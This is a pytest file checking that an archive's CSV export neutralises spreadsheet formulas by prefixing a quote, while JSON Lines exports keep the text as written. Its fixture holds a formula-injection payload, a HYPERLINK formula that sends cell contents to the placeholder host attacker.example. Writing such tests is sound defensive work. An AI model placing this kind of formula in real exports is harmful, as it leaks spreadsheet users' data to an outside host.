"""CSV exports guard every cell a spreadsheet would run as a formula; JSON Lines keep the text as written."""

import json

import pytest

from archive.models import ArticleTopic, Mention, Person, Topic
from archive.research import exports
from tests.support.list_exports import BASE, csv_rows, download

FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Read more")'


@pytest.fixture
def formulas(make_article):
    """An article whose title, person, topic and summary a spreadsheet would run as formulas."""
    article = make_article(FORMULA_TITLE, "2021-03-01", body="-2+3 degrees in Minsk at noon.")
    Mention.objects.create(article=article, person=Person.objects.create(slug="at-sign", name="@SUM(1+1)"))
    ArticleTopic.objects.create(article=article, topic=Topic.objects.create(slug="plus", name="+1 topic"))
    return article


def test_csv_cells_a_spreadsheet_would_run_as_formulas_begin_with_a_quote(client, formulas):
    rows = csv_rows(client)

    assert rows == [
        {
            "url": BASE + formulas.get_absolute_url(),
            "published": "2021-03-01",
            "title": "'" + FORMULA_TITLE,
            "language": "en",
            "persons": "'@SUM(1+1)",
            "topics": "'+1 topic",
            "summary": "'-2+3 degrees in Minsk at noon.",
        }
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_character_that_starts_a_formula_is_guarded_and_others_are_not(start):
    assert exports.inert(f"{start}1+1") == f"'{start}1+1"
    assert exports.inert(f"1+1{start}") == f"1+1{start}"


def test_json_lines_keep_what_the_csv_guards_exactly_as_written(client, formulas):
    (line,) = download(client, "/articles/export.jsonl").splitlines()
    record = json.loads(line)

    assert (record["title"], record["persons"][0]["name"], record["topics"][0]["name"]) == (
        FORMULA_TITLE,
        "@SUM(1+1)",
        "+1 topic",
    )
    assert record["body"] == "-2+3 degrees in Minsk at noon."
